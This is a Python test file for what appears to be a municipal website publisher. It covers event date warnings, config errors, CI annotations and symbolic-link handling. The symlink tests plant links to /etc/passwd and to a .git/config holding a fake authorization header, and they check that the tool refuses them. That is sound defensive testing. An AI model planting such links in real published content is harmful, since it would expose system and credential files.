    assert "0274740121" in (site / "events/2026/kenko/index.html").read_text(encoding="utf-8")
    assert "49528913" not in (site / "opendata/events.csv").read_bytes().decode("utf-8-sig")


def test_an_event_with_an_empty_end_has_no_end(tmp_path):
    """`end:` left empty (as the form or a template may leave it) was a TypeError in the check."""
    event = md("---", "title: 教室", "date: 2026-04-01", "categories: [kanko]", "start: 2026-07-04 10:00")
    project = write_project(tmp_path, {**GOOD, "events/2026/open.md": event + "end:\nplace: 公民館\n---\n"})
    result = cli(project, "check")
    assert result.returncode == 0, result.output


def test_an_event_over_a_year_long_is_questioned_but_built(tmp_path):
    """2062 for 2026: a warning (a long exhibition is possible), on the line of `end`."""
    typo = md(
        "---",
        "title: 秋祭り",
        "date: 2026-05-01",
        "categories: [kanko]",
        "start: 2026-10-18 10:00",
        "end: 2062-10-18 14:00",
        "place: 町民広場",
        "---",
        "どなたでも。",
    )
    project = write_project(tmp_path, {**GOOD, "events/2026/aki.md": typo})
    checked = cli(project, "check")
    assert checked.returncode == 0, checked.output
    assert (
        f"{P}events/2026/aki.md:6: 警告: 開催期間が1年を超えています。終了日時の年が正しいか確かめてください"
        in checked.output
    )


def test_a_broken_mkdocs_yml_is_explained_without_a_traceback(tmp_path):
    project = write_project(tmp_path, GOOD)
    config = project / "mkdocs.yml"
    lines = config.read_text(encoding="utf-8").split("\n")
    number = next(n for n, line in enumerate(lines) if line.startswith("docs_dir:"))
    lines[number] = "\t" + lines[number]  # a tab where YAML allows none
    config.write_text("\n".join(lines), encoding="utf-8")
    result = cli(project, "check")
    assert result.returncode == 1 and "Traceback" not in result.output
    assert f"mkdocs.yml:{number + 1}: 設定ファイルの書き方が正しくありません: " in result.output, (
        result.output
    )


def test_github_actions_annotations_name_the_repository_file(tmp_path):
    files, expected = CASES["month_13"]
    project = write_project(tmp_path, {**GOOD, **files})
    result = cli(project, "check", GITHUB_ACTIONS="true")
    assert result.returncode == 1
    assert result.stdout.splitlines() == [
        expected[0],
        "::error file=content/news/2026/month13.md,line=3::date（掲載日）: 日付「2026-13-01」: 13月はありません",
    ]


def test_github_annotation_escapes_percent_and_newlines():
    from publisher.content.errors import ContentError

    error = ContentError("content/a.md", 2, "100%\n完了")
    assert error.github_annotation() == "::error file=content/a.md,line=2::100%25%0A完了"


@pytest.fixture(scope="module")
def everything_broken(tmp_path_factory):
    files = dict(GOOD)
    for case_files, _ in CASES.values():
        assert not set(case_files) & set(files), "case files must not replace good files or each other"
        files.update(case_files)
    expected = sorted(line for _, lines in CASES.values() for line in lines)
    return write_project(tmp_path_factory.mktemp("broken"), files), expected


def test_one_check_lists_every_problem(everything_broken):
    project, expected = everything_broken
    result = cli(project, "check")
    assert result.returncode == 1
    assert len(result.stdout.splitlines()) == len(expected) == 86
    assert problem_lines(result.stdout) == expected
    assert f"{len(expected)} 件の問題があります" in result.stderr


@pytest.mark.slow  # a real build
def test_one_build_fails_with_every_problem_and_no_site(everything_broken):
    project, expected = everything_broken
    result = mkdocs_build(project)
    assert result.returncode != 0
    assert f"コンテンツに {len(expected)} 件の問題があります" in result.output
    reported = sorted(line.strip() for line in result.output.splitlines() if line.startswith(f"  {P}"))
    assert reported == expected
    assert "Traceback" not in result.output
    assert not (project / "site").exists()


SYMLINK = (
    "シンボリックリンクは使えません（content/ の外のファイルが公開されてしまうおそれがあります）。"
    "リンクを消して、公開するファイルそのものを置いてください"
)


LINKS = {
    "images/passwd.txt": "/etc/passwd",
    "images/config.txt": "../../.git/config",
    "etc": "/etc",
    "news/2026/dangling.md": "/nonexistent/file.md",
    "kurashi/same.md": "gomi.md",  # even a link inside content/: the file is what gets reviewed
    "loop": ".",
}


def project_with_links(root):
    project = write_project(root, GOOD)
    (project / ".git").mkdir()
    (project / ".git/config").write_text("[http]\n\textraheader = AUTHORIZATION: basic c2VjcmV0\n")
    for name, target in LINKS.items():
        (project / "content" / name).symlink_to(target)
    return project, sorted(f"{P}{name}: {SYMLINK}" for name in LINKS)


def test_check_refuses_every_symbolic_link_and_follows_none(tmp_path):
    project, expected = project_with_links(tmp_path)
    result = cli(project, "check")
    assert result.returncode == 1, result.output
    assert problem_lines(result.stdout) == expected
    assert "Traceback" not in result.output


@pytest.mark.slow  # a real build
def test_build_with_a_symbolic_link_fails_and_publishes_nothing(tmp_path):
    project, expected = project_with_links(tmp_path)
    result = mkdocs_build(project)
    assert result.returncode != 0
    reported = sorted(line.strip() for line in result.output.splitlines() if line.startswith(f"  {P}"))
    assert reported == expected, result.output
    assert "Traceback" not in result.output
    assert not (project / "site").exists()


@pytest.mark.slow  # a real build
def test_a_guide_folder_without_index_holding_folders_builds(tmp_path):
    """The menu once asked every child of a section for `is_index`, which sub-sections lack."""
    files = {
        **GOOD,
        "kurashi/index.md": md("---", "title: くらし", "---", "くらしの案内です。"),
        "kurashi/shinki/page.md": md("---", "title: 新しい案内", "---", "本文です。"),
        "kurashi/shinki/sub/detail.md": md("---", "title: 詳しい案内", "---", "本文です。"),
    }
    config = MINIMAL_CONFIG.replace(
        "  font: false\n", "  font: false\n  features:\n    - navigation.indexes\n"
    )
    project = write_project(tmp_path, files, config)
    built = mkdocs_build(project)
    assert built.returncode == 0, built.output
    assert "Traceback" not in built.output
    assert "詳しい案内" in (project / "site/kurashi/shinki/sub/detail/index.html").read_text(encoding="utf-8")
